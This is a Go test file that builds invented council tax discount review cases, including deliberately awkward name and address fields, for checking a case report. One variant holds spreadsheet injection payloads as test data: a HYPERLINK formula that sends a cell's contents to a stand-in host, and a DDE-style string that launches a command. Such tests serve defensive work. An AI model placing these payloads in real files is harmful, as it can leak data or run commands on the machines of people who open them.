package desk_test

import (
	"fmt"
	"strings"

	"nfimatch/extract"
	"nfimatch/extract/plaintext"
	"nfimatch/extract/retention"
	"nfimatch/extract/vault"
	"nfimatch/report/cases"
	"nfimatch/report/desk"
)

func day(text string) retention.Date {
	d, err := retention.ParseDate(text)
	if err != nil {
		panic(err)
	}
	return d
}

// row returns an opened source row; fields are name, text, name, text …
func row(dataset string, line uint32, fields ...string) vault.Row {
	r := vault.Row{Dataset: dataset, Line: line, Date: day("2026-10-12")}
	for i := 0; i+1 < len(fields); i += 2 {
		r.Fields = append(r.Fields, extract.SourceField{Name: fields[i],
			Text: plaintext.Of([]byte(fields[i+1]))})
	}
	return r
}

// household is an invented case to be made awkward: one liable person, two entries
// on the register, one claim.
func household(number int) desk.Case {
	annual, after := int64(43_125+number), int64(43_125+number)/2
	line := uint32(number)
	return desk.Case{
		Name: fmt.Sprintf("2026Q4-%04d", number), DeleteBy: day("2027-04-12"),
		Facts: cases.Facts{
			Priority: number, Strength: "Strong", ScoreMillibits: 2400,
			Rules: []cases.RuleFacts{{Code: "A0", Name: "Another adult on the register",
				Words: "A discount for one adult is in payment and the register shows the " +
					"liable person and another adult at the dwelling"}},
			For: []cases.ReasonFacts{
				{Code: "registered_after_discount", Date: "2024-12-01", Millibits: 1600,
					Words: "The other elector was added to the register on or after the day " +
						"the discount began"},
				{Code: "liable_found", Millibits: 700,
					Words: "The liable person is on the register at the dwelling too"}},
			Against: []cases.ReasonFacts{
				{Code: "register_may_be_old",
					Words: "An entry on the register can outlast a person's stay"}},
			CheckFirst: []string{"account notes", "recent move", "name change",
				"last review reply"},
			Settle: []string{"who aged 18 or over has lived there since the discount began, " +
				"and whether any of them is not counted"},
			AnnualPence: &annual, AfterCTRPence: &after, CTR: "Yes",
			DiscountSince: "2019-04-01", AccountSince: "2016-07-18", OtherSince: "2024-12-01",
			Electors: 2, AdultsLeast: 2, AdultsMost: 2, Liable: "Yes",
			AddressMatched: "UPRN and address",
			Sources: []cases.SourceFacts{
				{Dataset: "council_tax", Line: line},
				{Dataset: "electoral_register", Line: 2 * line, Registered: "2016-12-01"},
				{Dataset: "electoral_register", Line: 2*line + 1, Registered: "2024-12-01",
					AdultOn: "2024-11-02"},
				{Dataset: "ctr", Line: line}},
		},
		Rows: []vault.Row{
			row("council_tax", line, "account_reference", fmt.Sprintf("00123%05d", number),
				"uprn", fmt.Sprintf("99900%07d", number), "title", "MS", "surname", "ACHTERBERG",
				"forename", "JOAN", "middle_name", "Q", "birth_date", "1958-03-04",
				"address_1", fmt.Sprintf("%d WOLVERLEY STREET", number), "address_2", "METROBOROUGH",
				"postcode", "ZZ1 1AA", "discount_code", "SPD", "band", "B"),
			row("electoral_register", 2*line, "surname", "Achterberg", "forename", "Joan Q",
				"birth_date", "1958-03-04"),
			row("electoral_register", 2*line+1, "surname", "Quennell", "forename", "Peter"),
			row("ctr", line, "surname", "ACHTERBERG", "forename", "JOAN", "nino", "QQ123456C",
				"partner_surname", "QUENNELL", "partner_forename", "P"),
		},
	}
}

// sample is a list of n cases. From twelve on, the first twelve are awkward.
func sample(n int) *desk.List {
	list := &desk.List{
		Council: "Metroborough Council", Exercise: "2026Q4", Batch: "2026Q4-B03",
		Purpose: "Review of council tax discounts for one adult under section 11 of the Local " +
			"Government Finance Act 1992",
		Officer: "akhan", Second: "jortiz", Reason: "desk check Q4",
		AsOf: day("2026-10-12"), Opened: day("2026-11-24"), DeleteBy: day("2027-04-12"),
		Sources: []desk.Source{{Name: "Council tax", Date: "2026-10-12"},
			{Name: "Electoral register", DateWords: "published", Date: "2026-10-01"},
			{Name: "Council tax reduction", Date: "2026-10-12"}},
		AuditCount: 57, AuditHead: strings.Repeat("0123456789abcdef", 4), Program: "nfi 0.4.0",
	}
	for i := range n {
		list.Cases = append(list.Cases, household(i+1))
	}
	if n >= len(awkward) {
		for i, change := range awkward {
			change(&list.Cases[i])
		}
	}
	return list
}

// set changes one field of a row, or adds it.
func set(r *vault.Row, field, text string) {
	for i := range r.Fields {
		if r.Fields[i].Name == field {
			r.Fields[i].Text = plaintext.Of([]byte(text))
			return
		}
	}
	r.Fields = append(r.Fields, extract.SourceField{Name: field,
		Text: plaintext.Of([]byte(text))})
}

var awkward = []func(*desk.Case){
	func(c *desk.Case) { // five lines in one field, a long address in another
		set(&c.Rows[0], "address_1", "Flat 12b, Third Floor\nCastle Mansions\nThe Old Maltings")
		set(&c.Rows[0], "address_2", "17-19 "+
			"Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch Road")
		set(&c.Rows[0], "address_4", "METROBOROUGH, METROSHIRE")
	},
	func(c *desk.Case) { // twelve reasons
		for i := range 6 {
			c.Facts.For = append(c.Facts.For, c.Facts.For[i%2])
			c.Facts.Against = append(c.Facts.Against, cases.ReasonFacts{Words: "The discount " +
				"began less than a year ago and the day the account began is not known", Date: "2026-03-01"})
		}
		c.Facts.Rules = append(c.Facts.Rules, cases.RuleFacts{Code: "A1",
			Words: "A discount for one adult is in payment and the account names two liable persons"})
		c.Facts.Settle = append(c.Facts.Settle, "whether the second person still lives there, "+
			"and if not since when")
	},
	func(c *desk.Case) { // Welsh and other letters
		set(&c.Rows[0], "surname", "GRUFFYDD-ŴYN")
		set(&c.Rows[0], "forename", "SIÂN ÂŴŶ")
		set(&c.Rows[2], "surname", "Żółkiewska-Ó Súilleabháin")
	},
	func(c *desk.Case) { // emoji, other scripts
		set(&c.Rows[0], "surname", "O'NEIL 🏠👩‍👩‍👧")
		set(&c.Rows[2], "surname", "王小明 محمد")
	},
	func(c *desk.Case) { // formulas, spaces, controls, broken bytes
		set(&c.Rows[0], "surname", `=HYPERLINK("http://example.invalid/"&A1,"here")`)
		set(&c.Rows[0], "forename", "")
		set(&c.Rows[0], "title", "")
		set(&c.Rows[0], "middle_name", "")
		set(&c.Rows[1], "surname", "@SUM(1+1)*cmd|' /C calc'!A0")
		set(&c.Rows[1], "forename", "-2+3")
		set(&c.Rows[2], "surname", "\x00bro\xffken\u202edne\x1f")
		set(&c.Rows[0], "account_reference", "=00123")
	},
	func(c *desk.Case) { // joint names in one field
		set(&c.Rows[0], "title", "")
		set(&c.Rows[0], "forename", "")
		set(&c.Rows[0], "middle_name", "")
		set(&c.Rows[0], "surname", "MR & MRS J SMITH")
	},
	func(c *desk.Case) { // no names at all
		for i := range c.Rows {
			for _, field := range []string{"title", "surname", "forename", "middle_name",
				"partner_surname", "partner_forename"} {
				set(&c.Rows[i], field, "")
			}
		}
	},
	func(c *desk.Case) { set(&c.Rows[0], "surname", "METRO LETTINGS (HOLDINGS) LTD T/A HOMES 4 U") },
	func(c *desk.Case) { set(&c.Rows[0], "surname", "EXORS OF THE LATE J ACHTERBERG (DECD)") },
	func(c *desk.Case) { // further rows of the account
		again := row("council_tax", 9001, "surname", "ACHTERBERG", "forename", "JOAN",
			"title", "MS", "middle_name", "Q", "other_surname", "PATEL R", "discount_code", "DIS25",
			"recorded_1_surname", "PATEL", "recorded_1_forename", "ASHA",
			"recorded_3_surname", "PATEL", "recorded_3_forename", "DEV")
		c.Rows = append(c.Rows[:1:1], append([]vault.Row{again}, c.Rows[1:]...)...)
	},
	func(c *desk.Case) { // nothing known
		c.Facts.AnnualPence, c.Facts.AfterCTRPence, c.Facts.CTR = nil, nil, "Not known"
		c.Facts.DiscountSince, c.Facts.AccountSince, c.Facts.OtherSince = "", "", ""
		c.Facts.Sources, c.Facts.AddressMatched = nil, ""
		c.Facts.Strength, c.Facts.Liable, c.Facts.Against = "Weak", "No", nil
		set(&c.Rows[0], "postcode", "")
		set(&c.Rows[0], "uprn", "")
	},
	func(c *desk.Case) { // money and counts at their ends
		zero, large := int64(0), int64(123_456_789)
		c.Facts.AnnualPence, c.Facts.AfterCTRPence = &large, &zero
		c.Facts.Electors, c.Facts.AdultsLeast, c.Facts.AdultsMost = 8, 1, 8
		c.Facts.Strength = "Medium"
	},
}
